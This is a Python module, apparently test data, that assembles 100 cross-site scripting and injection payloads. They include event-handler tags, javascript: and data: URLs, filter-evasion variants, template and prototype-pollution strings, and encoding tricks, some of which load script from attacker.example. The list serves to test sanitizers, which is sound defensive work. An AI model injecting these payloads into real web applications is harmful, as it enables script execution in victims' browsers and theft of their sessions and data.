"""A hundred texts that would run `attack()` or fetch from elsewhere, were they ever taken for more than texts."""

_EVENTS = [
    "img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror",
    "details open ontoggle",
    "input autofocus onfocus", "marquee onstart", "object data=x onerror", "iframe onload", "select autofocus onfocus",
    "textarea autofocus onfocus", "style onload", "link rel=stylesheet href=/assets/style.css onload", "a id=x onclick",
]
_SCHEMES = [
    "javascript:attack()", "JaVaScRiPt:attack()", "java\tscript:attack()", "\x01javascript:attack()",
    "javascript&colon;attack()",
    "data:text/html,<script>attack()</script>", "data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==",
    "vbscript:attack()", "//attacker.example/x.js", "https://attacker.example/", "blob:attack()",
    "view-source:javascript:attack()",
]
_BREAKS = [
    '">', "'>", "</td>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "</svg>", "</noscript>",
    "</option>",
    '" x="', "' x='", "` x=`", "\u2028", "%22%3E", "&quot;&gt;", "\\u0022\\u003e", "\\x3e",
]
_SCRIPTS = [
    "<script>attack()</script>", "<SCRIPT>attack()</SCRIPT>", "<script src=//attacker.example/x.js></script>",
    "<scr<script>ipt>attack()</scr</script>ipt>", "<script\x0b>attack()</script>", "<script/x>attack()</script>",
    "<svg><script>attack()</script></svg>", "<math><mtext><script>attack()</script></mtext></math>",
    "<template><script>attack()</script></template>", "<noscript><p title='</noscript><img src=x onerror=attack()>'>",
    "<base href=//attacker.example/>", "<meta http-equiv=refresh content='0;url=javascript:attack()'>",
    "<form action=javascript:attack()><button>go", "<iframe srcdoc='<script>attack()</script>'>",
    "<embed src=javascript:attack()>", "<object data=javascript:attack()>",
    "<link rel=import href=//attacker.example/x>",
    "<style>@import'//attacker.example/x.css'</style>", "<div style=background:url(//attacker.example/x)>",
    "<svg><use href=//attacker.example/x#y>", "<svg><animate onbegin=attack() attributeName=x dur=1s>",
    "<math href=javascript:attack()>click", "<x contenteditable onblur=attack()>",
    "<keygen autofocus onfocus=attack()>",
]
_PROGRAMS = [
    "${attack()}", "`${attack()}`", "{{constructor.constructor('attack()')()}}", "<%= attack() %>", "#{attack()}",
    "';attack();//", '";attack();//', "\\';attack();//", "*/attack()/*", "\nattack()\n", "__proto__", "constructor",
    '{"__proto__": {"attack": 1}}', '["</script><script>attack()</script>"]', "%3Cscript%3Eattack()%3C/script%3E",
    "&lt;script&gt;attack()&lt;/script&gt;", "\ufeff<script>attack()</script>", "\u202e<script>attack()</script>",
    "<\u0000script>attack()</script>", "＜script＞attack()＜/script＞",
]

ATTACKS = (
    [f"<{event}=attack()>" for event in _EVENTS]
    + [f"<a href='{scheme}'>x</a>" if index % 2 else scheme for index, scheme in enumerate(_SCHEMES)]
    + [f"{mark}<img src=x onerror=attack()>" for mark in _BREAKS]
    + _SCRIPTS
    + _PROGRAMS
    + [f"{mark}<svg/onload=attack()>" for mark in _BREAKS[:9]]
)
assert len(ATTACKS) == len(set(ATTACKS)) == 100, len(ATTACKS)
